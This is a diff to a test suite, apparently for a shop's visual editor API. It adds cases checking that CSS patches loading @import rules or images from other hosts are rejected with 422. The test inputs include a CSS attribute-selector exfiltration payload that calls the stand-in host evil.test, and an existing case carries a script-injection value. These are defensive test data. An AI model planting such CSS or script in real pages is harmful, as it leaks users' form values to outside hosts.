@@ -253,6 +253,11 @@ describe.each(databaseKinds)("visual editor endpoints (%s)", (kind) => {
       ["a script element", { op: "html", sel: "#lede", value: "<p>Hi</p><script>alert(1)</script>" }, /<script>/],
       ["a hide of every element", { op: "hide", sel: "*" }, /^patches\.0\.sel: This selector matches \(nearly\) every element/],
       ["a text replace of body's children", { op: "text", sel: "body > *", value: "x" }, /every element/],
+      // Issue 33, row 13: a style sheet loaded rules and images from any host.
+      ["a style sheet's @import", { op: "css", value: "@import url(/theme-extra.css);" }, /^patches\.0\.value: Load nothing from another site: remove @import/],
+      ["a style sheet's image from another host", { op: "css", value: '.a[value^="x"] { background: url(https://evil.test/?x) }' }, /remove url\(https:\/\/evil\.test\/\?x\)/],
+      ["a protocol-relative image", { op: "css", value: ".a { background: url(//evil.test/a.png) }" }, /remove url\(\/\/evil\.test\/a\.png\)/],
+      ["a style value's image from another host", { op: "style", sel: "#lede", props: { background: "url('https://evil.test/a.png')" } }, /^patches\.0\.props\.background: Load nothing from another site/],
     ])("refuses %s with 422 and stores nothing", async (_what, patch, issue) => {
       const before = await storedPatches("ed-draft", "ed-draft-b");
       const body = await expectProblem(await put(token("ed-draft", "ed-draft-b"), { patches: [patch] }), 422, "invalid-patches");
@@ -264,6 +269,7 @@ describe.each(databaseKinds)("visual editor endpoints (%s)", (kind) => {
       const kept: Patch[] = [
         { op: "html", sel: "#lede", value: '<a href="/shipping" title="<b>">Free</a> <img src="data:image/png;base64,iVBORw0KGgo=" alt="">' },
         { op: "attr", sel: "a.buy", name: "href", value: "https://svc-editor-api.myshopify.com/cart" },
+        { op: "css", value: '.hero { background: url(/cdn/shop/files/hero.jpg), url("data:image/png;base64,iVBORw0KGgo=") } .a::before { content: "https://x.test" }' },
       ];
       const before = await storedPatches("ed-draft", "ed-draft-b");
       const res = await put(token("ed-draft", "ed-draft-b"), { patches: kept });
